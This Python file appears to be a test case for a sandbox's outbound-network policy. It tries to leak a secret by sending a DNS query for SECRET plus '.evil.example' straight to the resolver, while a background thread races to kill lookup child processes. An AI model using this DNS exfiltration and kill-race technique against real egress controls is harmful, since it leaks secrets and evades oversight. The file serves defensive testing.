# class: network
# rule: outbound_connectivity
# policy: lookups.yaml
# success: the process that looks up an allowed name is killed, and its caller then asks the name
#   server itself, deeper on its stack
# proof: query
# needs: resolver
# alerts: true
# timeout: 40
import faulthandler
import os
import signal
import socket
import threading
import time

from attack import RESOLVER, SECRET, attempt, question

out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def children():
    found = []
    for task in os.listdir("/proc/self/task"):
        try:
            with open("/proc/self/task/%s/children" % task) as file:
                found += file.read().split()
        except OSError:
            continue
    return [int(pid) for pid in found]


def kill():
    while True:
        for pid in children():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                continue
        time.sleep(0.0002)


def deeper(levels):
    if levels:
        return sum(map(deeper, [levels - 1]))
    return out.sendto(question(SECRET + ".evil.example"), (RESOLVER, 53)) > 0


@attempt
def ask():
    # A process that is killed within libc leaves its locks to nobody: the next lookup may hang.
    faulthandler.dump_traceback_later(15, exit=True)
    threading.Thread(target=kill, daemon=True).start()
    for _ in range(40):
        try:
            socket.getaddrinfo("api.allowed.example", 443)
        except OSError:
            pass
        try:
            if deeper(100):
                return True
        except OSError:
            pass
    return False
